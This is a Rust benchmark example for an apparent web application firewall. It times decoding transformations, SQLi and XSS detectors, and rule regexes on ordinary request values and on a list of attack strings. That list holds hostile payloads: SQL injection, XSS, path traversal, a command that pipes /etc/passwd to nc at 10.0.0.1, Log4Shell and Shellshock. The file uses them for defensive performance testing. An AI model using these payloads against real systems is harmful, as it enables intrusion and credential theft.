//! Prints nanoseconds per value for each transformation and operator, on values as ordinary requests have them and on such as
//! attacks have; with a directory of rules (`.conf`) as argument also what its regular expressions cost to compile and to run.
//!
//! `cargo run --release -p portcullis-waf --example operators -- ../shared/crs/rules`
#![expect(clippy::print_stdout, clippy::unwrap_used, reason = "an example that prints what it measured")]
#![expect(clippy::disallowed_methods, clippy::disallowed_types, reason = "it measures time and reads rules")]

use std::hint::black_box;
use std::time::Instant;

use portcullis_waf::bytes::ByteSet;
use portcullis_waf::operator::phrases::Phrases;
use portcullis_waf::operator::regex::{Captures, Regex};
use portcullis_waf::operator::{encodings, sqli, xss};
use portcullis_waf::seclang::ast::{Transformation, UnicodeMap};

/// Header fields, cookies and parameters of a browser's request.
const ORDINARY: &[&str] = &[
    "www.example.com",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8",
    "en-GB,en;q=0.9,de;q=0.8",
    "gzip, deflate, br, zstd",
    "https://www.example.com/products/list?category=shoes&page=2",
    "keep-alive",
    "\"Chromium\";v=\"142\", \"Not_A Brand\";v=\"99\"",
    "?0",
    "same-origin",
    "GA1.2.1234567890.1700000000",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk",
    "1",
    "red running shoes",
    "O'Brien & Sons (est. 1990), 50% off!",
    "2026-11-22T10:00:00+00:00",
    "max@example.org",
    "/products/42/details",
    "page",
    "true",
];

/// What attacks look like.
const ATTACKS: &[&str] = &[
    "1' UNION SELECT username, password FROM users WHERE '1'='1' -- ",
    "1%27%20or%201%3D1%23",
    "\"><script>alert(document.cookie)</script>",
    "&lt;img src=x onerror=&#97;lert(1)&gt;",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "; cat /etc/passwd | nc 10.0.0.1 4444",
    "${jndi:ldap://198.51.100.7/a}",
    "%u0027 or \\u0031=1 /* x */",
    "a\u{0}b\u{e9}\u{4e2d} \\x3cscript\\x3e",
    "() { :; }; /bin/bash -c 'id'",
];

/// Nanoseconds for one call, the least of several rounds.
fn nanoseconds(calls: usize, mut work: impl FnMut()) -> f64 {
    let mut least = f64::MAX;
    for _ in 0..9 {
        let start = Instant::now();
        let mut rounds = 0u32;
        while start.elapsed().as_millis() < 8 {
            work();
            rounds += 1;
        }
        least = least.min(start.elapsed().as_nanos() as f64 / f64::from(rounds) / calls as f64);
    }
    least
}

fn measure(name: &str, mut work: impl FnMut(&[u8])) {
    let [ordinary, attack] = [ORDINARY, ATTACKS]
        .map(|values| nanoseconds(values.len(), || values.iter().for_each(|value| work(black_box(value.as_bytes())))));
    println!("{name:24} {ordinary:9.1} {attack:9.1}");
}

fn main() {
    println!("{:24} {:>9} {:>9}", "ns per value", "ordinary", "attacks");
    let map = UnicodeMap(vec![(0x27, b'\''), (0xff07, b'\'')]);
    let mut out = Vec::new();
    for &transformation in Transformation::ALL {
        measure(transformation.name(), |value| _ = black_box(transformation.apply(value, &mut out, &map)));
    }
    measure("bytes of a value", |value| _ = black_box(ByteSet::of(value)));
    measure("detectSQLi", |value| _ = black_box(sqli::detect(value)));
    measure("detectXSS", |value| _ = black_box(xss::detect(value)));
    measure("validateUtf8Encoding", |value| _ = black_box(encodings::broken_utf8(value)));
    measure("validateUrlEncoding", |value| _ = black_box(encodings::broken_url_escape(value)));
    let printable = ByteSet::range(32, 126);
    measure("validateByteRange", |value| _ = black_box(encodings::outside_of(&printable, value)));
    let phrases: Vec<String> = (0..600).map(|number| format!("phrase{number}/etc/{number}")).collect();
    let phrases = Phrases::compile(&phrases).unwrap();
    measure("pm, 600 phrases", |value| _ = black_box(phrases.is_match(value)));
    let Some(directory) = std::env::args().nth(1) else { return };
    measure_patterns(&patterns(&directory));
}

fn measure_patterns(patterns: &[String]) {
    let start = Instant::now();
    let compiled: Vec<Regex> = patterns.iter().map(|pattern| Regex::compile(pattern).unwrap()).collect();
    let milliseconds = start.elapsed().as_secs_f64() * 1e3;
    let memory: usize = compiled.iter().map(Regex::memory).sum();
    let largest = compiled.iter().map(Regex::memory).max().unwrap_or(0);
    println!(
        "{} patterns: compiled in {milliseconds:.0} ms, {:.1} MB, the largest {:.1} MB",
        compiled.len(),
        memory as f64 / 1e6,
        largest as f64 / 1e6
    );
    let start = Instant::now();
    let required: Vec<_> = compiled.iter().map(Regex::required).collect();
    let without = required.iter().filter(|required| required.all.is_empty()).count();
    let literals: usize = required.iter().flat_map(|required| &required.all).map(Vec::len).sum();
    let long = |any: &Vec<Box<[u8]>>| any.iter().all(|literal| literal.len() > 1);
    let only_bytes =
        required.iter().filter(|required| !required.all.is_empty() && !required.all.iter().any(long)).count();
    println!(
        "required: {without} without, {only_bytes} with single bytes only, {literals} literals, in {:.0} ms",
        start.elapsed().as_secs_f64() * 1e3
    );
    let may_match: usize =
        required.iter().map(|required| ORDINARY.iter().filter(|value| required.allows(value.as_bytes())).count()).sum();
    println!("candidates: {may_match} of {} pairs of a pattern and an ordinary value", required.len() * ORDINARY.len());
    let mut each: Vec<(f64, usize)> = compiled
        .iter()
        .enumerate()
        .map(|(at, regex)| {
            let rounds = (0..200).map(|_| {
                let start = Instant::now();
                ORDINARY.iter().for_each(|value| _ = black_box(regex.is_match(value.as_bytes())));
                start.elapsed().as_nanos()
            });
            (rounds.min().unwrap_or(0) as f64 / ORDINARY.len() as f64, at)
        })
        .collect();
    each.sort_by(|left, right| right.0.total_cmp(&left.0));
    let mean = each.iter().map(|(time, _)| time).sum::<f64>() / each.len() as f64;
    println!("is_match: {mean:.0} ns per ordinary value at the mean; the slowest:");
    for (time, at) in each.iter().take(8) {
        println!(
            "{time:9.0} ns  {} bytes  {}",
            compiled[*at].memory(),
            patterns[*at].chars().take(90).collect::<String>()
        );
    }
    let mut captures = Captures::default();
    measure("captures, all patterns", |value| {
        compiled.iter().for_each(|regex| _ = black_box(regex.captures(value, &mut captures)));
    });
}

/// The arguments of `@rx` in the rules of a directory.
fn patterns(directory: &str) -> Vec<String> {
    let mut paths: Vec<_> = std::fs::read_dir(directory).unwrap().map(|entry| entry.unwrap().path()).collect();
    paths.sort();
    let mut found = Vec::new();
    for path in paths.iter().filter(|path| path.extension().is_some_and(|extension| extension == "conf")) {
        let text = std::fs::read_to_string(path).unwrap().replace("\\\n", " ");
        for line in text.lines().map(str::trim_start).filter(|line| line.starts_with("SecRule ")) {
            let Some(at) = line.find("@rx ") else { continue };
            let mut pattern = String::new();
            let mut characters = line[at + 4..].chars();
            while let Some(character) = characters.next().filter(|&character| character != '"') {
                match (character, character == '\\') {
                    (_, true) => match characters.next() {
                        Some('"') => pattern.push('"'),
                        other => pattern.extend(['\\'].into_iter().chain(other)),
                    },
                    (other, false) => pattern.push(other),
                }
            }
            found.push(pattern);
        }
    }
    found
}
